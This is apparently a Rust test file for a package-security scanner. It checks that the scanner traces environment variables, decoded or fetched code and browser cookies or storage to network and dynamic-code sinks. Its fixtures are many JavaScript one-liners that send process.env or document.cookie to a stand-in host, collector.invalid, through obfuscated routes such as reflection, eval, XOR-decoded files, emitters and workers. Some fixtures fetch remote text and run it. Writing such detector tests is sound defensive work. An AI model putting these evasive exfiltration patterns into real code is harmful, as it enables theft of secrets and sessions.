//! Roundabout ways to what is otherwise written plainly: the global object by way of a function, makers
//! of code by reflection, code in data files, messages and events, namespaces of TypeScript.
//!
//! Each is tried where install runs it, and where only an import does: then the survey has to see for
//! itself that a file is worth following.

use weir_model::contents::{SinkKind, SourceKind, Surface};

use super::{installed, run};

use SinkKind::{DynamicCode, Http, Socket};
use SourceKind::{Decoded, Environment, Fetched, WalletOrProfile};

/// What it does, source, sink, code of `index.js`.
const ROUNDABOUT: &[(&str, SourceKind, SinkKind, &str)] = &[
    (
        "takes the global object from a function that gives its this",
        Environment,
        Http,
        "const e = (function () { return this })().process.env; fetch('https://collector.invalid', { body: JSON.stringify(e) })",
    ),
    (
        "keeps such a function under a name",
        Environment,
        Http,
        "var root = function () { return this }; const g = root(); g.fetch('https://collector.invalid', { body: JSON.stringify(g.process.env) })",
    ),
    (
        "declares such a function, and calls it on nothing",
        Environment,
        Http,
        "function root() { return this } const g = root.call(null); g.fetch('https://collector.invalid', { body: JSON.stringify(g.process.env) })",
    ),
    (
        "takes either this or what evaluation gives",
        Environment,
        Http,
        "const g = function () { return this || (0, eval)('this') }(); g.fetch('https://collector.invalid', { body: JSON.stringify(g.process.env) })",
    ),
    (
        "calls Function for the global object",
        Environment,
        Http,
        "const e = Function('return this')().process.env; fetch('https://collector.invalid', { body: JSON.stringify(e) })",
    ),
    (
        "constructs a function by reflection, of what it fetched",
        Fetched,
        DynamicCode,
        "fetch('https://collector.invalid').then(r => r.text()).then(t => Reflect.construct(Function, [t])())",
    ),
    (
        "applies Function by reflection, to what it decoded",
        Decoded,
        DynamicCode,
        "const t = atob(require('./text').text); Reflect.apply(Function, null, [t])()",
    ),
    (
        "calls Function by its own method, with what it decoded",
        Decoded,
        DynamicCode,
        "const t = atob(require('./text').text); Function.call(null, t)()",
    ),
    (
        "makes an asynchronous function of what it fetched",
        Fetched,
        DynamicCode,
        "fetch('https://collector.invalid').then(r => r.text()).then(t => new (Object.getPrototypeOf(async function () {}).constructor)(t)())",
    ),
    (
        "makes one by a name for its constructor",
        Fetched,
        DynamicCode,
        "const { constructor: Maker } = Object.getPrototypeOf(async () => {}); fetch('https://collector.invalid').then(r => r.text()).then(t => new Maker(t)())",
    ),
    (
        "makes one by a constructor that is kept",
        Fetched,
        DynamicCode,
        "const Maker = (async () => {}).constructor; fetch('https://collector.invalid').then(r => r.text()).then(t => new Maker(t)())",
    ),
    (
        "makes a generator of what it fetched, by __proto__",
        Fetched,
        DynamicCode,
        "fetch('https://collector.invalid').then(r => r.text()).then(t => (function* () {}).__proto__.constructor(t)().next())",
    ),
    (
        "calls the constructor of all functions with what it decoded",
        Decoded,
        DynamicCode,
        "const t = atob(require('./text').text); Function.prototype.constructor(t)()",
    ),
    (
        "evaluates by reflection what it fetched",
        Fetched,
        DynamicCode,
        "fetch('https://collector.invalid').then(r => r.text()).then(t => Reflect.apply(eval, null, [t]))",
    ),
    (
        "evaluates what lies in a data file beside it",
        Decoded,
        DynamicCode,
        "const fs = require('fs'); eval(fs.readFileSync(__dirname + '/data.bin', 'utf8'))",
    ),
    (
        "makes a function of a data file, by a URL",
        Decoded,
        DynamicCode,
        "import { readFileSync } from 'node:fs'; const t = readFileSync(new URL('./lib/data.bin', import.meta.url), 'utf8'); new Function('require', t)(null)",
    ),
    (
        "compiles a data file as a module",
        Decoded,
        DynamicCode,
        "const fs = require('fs'), path = require('path'), M = require('module'); const m = new M('x'); m._compile(fs.readFileSync(path.join(__dirname, 'assets', 'logo.png'), 'latin1'), 'x')",
    ),
    (
        "undoes a data file's XOR and evaluates it",
        Decoded,
        DynamicCode,
        "const fs = require('fs'), vm = require('vm'); const b = fs.readFileSync(__dirname + '/data.bin'); const out = new Uint8Array(b.length); for (let i = 0; i < b.length; i++) out[i] = b[i] ^ 0x5a; vm.runInThisContext(Buffer.from(out).toString())",
    ),
    (
        "undoes it element by element",
        Decoded,
        DynamicCode,
        "const fs = require('fs'); const b = fs.readFileSync(__dirname + '/data.bin'); new Function(Buffer.from(b.map(c => c ^ 7)).toString())()",
    ),
    (
        "reads a data file by promises, decodes and evaluates it",
        Decoded,
        DynamicCode,
        "const { readFile } = require('fs/promises'); readFile(__dirname + '/data.bin', 'utf8').then(t => eval(atob(t)))",
    ),
    (
        "sends over a channel of messages",
        Environment,
        Http,
        "const { MessageChannel } = require('worker_threads'); const ch = new MessageChannel(); ch.port1.on('message', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); ch.port2.postMessage({ ...process.env })",
    ),
    (
        "sends over a channel that is global, as events",
        Environment,
        Http,
        "const { port1, port2 } = new MessageChannel(); port1.onmessage = e => fetch('https://collector.invalid', { body: JSON.stringify(e.data) }); port2.postMessage(process.env)",
    ),
    (
        "emits on the process",
        Environment,
        Http,
        "process.on('done', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); process.emit('done', process.env)",
    ),
    (
        "emits on an emitter",
        Environment,
        Http,
        "const { EventEmitter } = require('events'); const e = new EventEmitter(); e.once('done', (a, v) => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('done', 1, process.env)",
    ),
    (
        "emits on an emitter of its own class",
        Environment,
        Http,
        "const Emitter = require('events'); class Bus extends Emitter {} const e = new Bus(); e.on('done', v => fetch('https://collector.invalid', { body: JSON.stringify(v) })); e.emit('done', process.env)",
    ),
    (
        "takes it from an asynchronous store",
        Environment,
        Http,
        "const { AsyncLocalStorage } = require('node:async_hooks'); const s = new AsyncLocalStorage(); const send = () => fetch('https://collector.invalid', { body: JSON.stringify(s.getStore()) }); s.run(process.env, () => send())",
    ),
    (
        "enters an asynchronous store",
        Environment,
        Http,
        "import { AsyncLocalStorage } from 'async_hooks'; const s = new AsyncLocalStorage(); s.enterWith({ all: process.env }); fetch('https://collector.invalid', { body: JSON.stringify(s.getStore().all) })",
    ),
];

/// Text that some of them decode. Nothing is known of it where it is used.
const TEXT: &str = "exports.text = require('fs').readFileSync('data.txt', 'utf8')";

#[test]
fn roundabout_ways_are_followed_where_install_runs_them() {
    let mut wrong = String::new();
    for (says, source, sink, code) in ROUNDABOUT {
        let facts = installed(&[("index.js", code), ("text.js", TEXT)]);
        let is_seen = |flow: &weir_model::contents::Flow| {
            (flow.source, flow.sink, flow.surface) == (*source, *sink, Surface::Install)
        };
        if !facts.flows.iter().any(is_seen) {
            wrong.push_str(&format!("{says}: {:?} {:?}\n", facts.flows, facts.unread));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn roundabout_ways_are_followed_where_an_import_runs_them() {
    let mut wrong = String::new();
    for (says, source, sink, code) in ROUNDABOUT {
        let files = [("index.js", *code), ("text.js", TEXT)];
        let facts = run(&files, &[], &[(Surface::Import, "./index.js")]);
        let is_seen = |flow: &weir_model::contents::Flow| {
            (flow.source, flow.sink, flow.surface) == (*source, *sink, Surface::Import)
        };
        if !facts.flows.iter().any(is_seen) {
            wrong.push_str(&format!("{says}: {:?} {:?}\n", facts.flows, facts.unread));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn evaluated_text_has_the_global_object_for_its_this() {
    for code in [
        "require('vm').runInThisContext(\"const g = this; g.fetch('https://collector.invalid', { body: JSON.stringify(g.process.env) })\")",
        "(0, eval)(\"const g = this; g.fetch('https://collector.invalid', { body: JSON.stringify(g.process.env) })\")",
    ] {
        let facts = installed(&[("index.js", code)]);
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| (flow.source, flow.sink) == (Environment, Http)),
            "{code}: {:?}",
            facts.flows
        );
    }
    let command = "node -e \"const g = this; g.fetch('https://collector.invalid', { body: JSON.stringify(g.process.env) })\"";
    let facts = run(&[], &[command], &[]);
    assert_eq!(facts.flows.len(), 1, "{:?}", facts.flows);
}

#[test]
fn messages_cross_to_workers_and_back() {
    for (index, worker) in [
        (
            "const { Worker } = require('worker_threads'); new Worker('./worker.js').postMessage({ ...process.env })",
            "const { parentPort } = require('worker_threads'); parentPort.on('message', v => fetch('https://collector.invalid', { body: JSON.stringify(v) }))",
        ),
        (
            "const { Worker } = require('worker_threads'); new Worker('./worker.js').on('message', v => fetch('https://collector.invalid', { body: JSON.stringify(v) }))",
            "const { parentPort } = require('worker_threads'); parentPort.postMessage({ ...process.env })",
        ),
        (
            "const child = require('child_process').fork('./worker.js'); child.on('message', v => fetch('https://collector.invalid', { body: JSON.stringify(v) }))",
            "process.send({ ...process.env })",
        ),
        (
            "const child = require('child_process').fork('./worker.js'); child.send({ ...process.env })",
            "process.on('message', v => fetch('https://collector.invalid', { body: JSON.stringify(v) }))",
        ),
    ] {
        let facts = installed(&[("index.js", index), ("worker.js", worker)]);
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| (flow.source, flow.sink) == (Environment, Http)),
            "{index}: {:?}",
            facts.flows
        );
    }
}

#[test]
fn namespaces_and_enums_of_typescript_hold_values() {
    for code in [
        "namespace X { export const e = process.env } fetch('https://collector.invalid', { body: JSON.stringify(X.e) })",
        "namespace A.B { export function all() { return process.env } } fetch('https://collector.invalid', { body: JSON.stringify(A.B.all()) })",
        "export namespace X { const hidden = process.env; export { hidden as shown } } fetch('https://collector.invalid', { body: JSON.stringify(X.shown) })",
        "enum Key { Of = 'env' } const { request } = require('https'); request('https://collector.invalid').end(JSON.stringify(process[Key.Of]))",
        "enum Key { Of = JSON.stringify(process.env) } fetch('https://collector.invalid', { body: Key.Of })",
        "import https = require('https'); https.get('https://collector.invalid/?' + JSON.stringify(process.env))",
    ] {
        for path in ["index.ts", "index.mts"] {
            let command = format!("bun {path}");
            let facts = run(&[(path, code)], &[&command], &[]);
            let mut flows = facts.flows.iter();
            assert!(
                flows.any(|flow| (flow.source, flow.sink) == (Environment, Http)),
                "{code}: {:?} {:?}",
                facts.flows,
                facts.unread
            );
        }
    }
}

#[test]
fn what_goes_nowhere_that_way_stays_quiet() {
    for (says, code) in [
        (
            "asks for the global object to see what there is",
            "const root = (function () { return this })(); module.exports = typeof root.fetch === 'function' && root.fetch('https://api.example', { headers: { node: root.process.version } })",
        ),
        (
            "gives itself where it is asked for an iterator",
            "const all = { process: { env: load() }, self: function () { return this } }; fetch('https://api.example', { body: JSON.stringify(all.self().process.env) })",
        ),
        (
            "constructs by reflection what is no function",
            "fetch('https://api.example').then(r => r.text()).then(t => Reflect.construct(Map, [[t]]))",
        ),
        (
            "takes the constructor of an error it was answered",
            "fetch('https://api.example').then(r => r.json()).then(e => new e.constructor(e.message))",
        ),
        (
            "reads a data file and prints it",
            "const fs = require('fs'); console.log(fs.readFileSync(__dirname + '/help.txt', 'utf8')); module.exports = f => new Function('return ' + f)",
        ),
        (
            "evaluates a file of code beside it, which is read as such",
            "const fs = require('fs'); eval(fs.readFileSync(__dirname + '/polyfill.js', 'utf8'))",
        ),
        (
            "starts a program under the version it finds beside it",
            "const fs = require('fs'), cp = require('child_process'); const v = fs.readFileSync(__dirname + '/VERSION', 'utf8').trim(); cp.execFileSync('tool', ['--version', v])",
        ),
        (
            "evaluates a file that somebody else names",
            "const fs = require('fs'); module.exports = name => eval(fs.readFileSync(name, 'utf8'))",
        ),
        (
            "hears of one event and sends what it was told, while another gets the environment",
            "const e = new (require('events'))(); e.on('line', v => fetch('https://api.example', { body: v })); e.on('env', v => console.log(v)); e.emit('env', process.env); e.emit('line', 'hello')",
        ),
        (
            "tells one emitter, and sends what another says",
            "const { EventEmitter } = require('events'); const a = new EventEmitter(), b = new EventEmitter(); a.on('x', v => fetch('https://api.example', { body: v })); b.emit('x', process.env)",
        ),
        (
            "hands an emitter that was told of the environment to a request",
            "const { EventEmitter } = require('events'); const a = new EventEmitter(); a.emit('x', process.env); fetch('https://api.example', { signal: a })",
        ),
        (
            "has two channels of messages",
            "const a = new MessageChannel(), b = new MessageChannel(); a.port1.onmessage = e => fetch('https://api.example', { body: e.data }); b.port2.postMessage(process.env)",
        ),
        (
            "keeps the environment in an asynchronous store, and sends another",
            "const { AsyncLocalStorage } = require('async_hooks'); const a = new AsyncLocalStorage(), b = new AsyncLocalStorage(); a.run(process.env, () => b.run({ id: 1 }, () => fetch('https://api.example', { body: JSON.stringify(b.getStore()) })))",
        ),
    ] {
        for facts in [
            installed(&[("index.js", code), ("polyfill.js", "var a = 1")]),
            run(
                &[("index.js", code)],
                &[],
                &[(Surface::Import, "./index.js")],
            ),
        ] {
            assert!(facts.flows.is_empty(), "{says}: {:?}", facts.flows);
        }
    }
    for code in [
        "namespace X { const e = process.env; export const v = 1 } fetch('https://api.example', { body: JSON.stringify(X) })",
        "declare namespace X { const e: object } enum Kind { Env, Other = 'env' } fetch('https://api.example', { body: Kind.Other })",
    ] {
        let facts = run(&[("index.ts", code)], &["bun index.ts"], &[]);
        assert!(facts.flows.is_empty(), "{code}: {:?}", facts.flows);
    }
}

/// What a page keeps, where all of it leaves for a host that the code names.
#[test]
fn all_that_a_page_keeps_is_not_sent_unseen() {
    for code in [
        "fetch('https://collector.invalid', { method: 'POST', body: document.cookie })",
        "new Image().src = 'https://collector.invalid/?c=' + document.cookie",
        "new Image().src = 'https://collector.invalid/?c=' + encodeURIComponent(window.document.cookie)",
        "const c = document.cookie; navigator.sendBeacon('https://collector.invalid', JSON.stringify({ at: location.href, c }))",
        "const s = new WebSocket('wss://collector.invalid'); s.onopen = () => s.send(document.cookie)",
        "fetch('https://collector.invalid/?c=' + btoa(document.cookie))",
        "fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify(localStorage) })",
        "fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify(Object.entries(window.localStorage)) })",
        "navigator.sendBeacon('https://collector.invalid', JSON.stringify(Object.assign({}, sessionStorage)))",
    ] {
        let files = [("index.js", code)];
        let facts = run(&files, &[], &[(Surface::Import, "./index.js")]);
        let is_seen = |flow: &weir_model::contents::Flow| {
            let leaves = matches!(flow.sink, Http | Socket);
            leaves && (flow.source, flow.surface) == (WalletOrProfile, Surface::Import)
        };
        assert!(facts.flows.iter().any(is_seen), "{code}: {:?}", facts.flows);
    }
    for code in [
        "const get = name => { const v = `; ${document.cookie}`; const p = v.split(`; ${name}=`); return p.length === 2 && p.pop().split(';').shift() }; fetch('https://api.example', { body: get('session') })",
        "const all = decodeURIComponent(document.cookie).split(';'); const own = all.find(c => c.startsWith('x=')); document.cookie = 'x=1'; module.exports = own",
        "const m = document.cookie.match(/(^|;) ?csrf=([^;]*)/); fetch('https://api.example', { headers: { 'x-csrf-token': m && m[2] } })",
        "fetch('https://api.example', { headers: { cookie: document.cookie } })",
        "const all = parseCookies(document.cookie); fetch('https://api.example', { body: all.session })",
        "fetch('/login', { method: 'POST', body: document.cookie })",
        "fetch('http://localhost:3000/login', { method: 'POST', body: document.cookie })",
        "document.cookie = 'seen=1'; fetch('https://api.example', { body: localStorage.getItem('token') })",
        "fetch('https://api.example', { body: JSON.stringify({ t: localStorage.token, at: sessionStorage['at'] }) })",
        "console.log(JSON.stringify(localStorage)); fetch('https://api.example')",
    ] {
        let files = [("index.js", code)];
        let facts = run(&files, &[], &[(Surface::Import, "./index.js")]);
        assert!(facts.flows.is_empty(), "{code}: {:?}", facts.flows);
    }
}
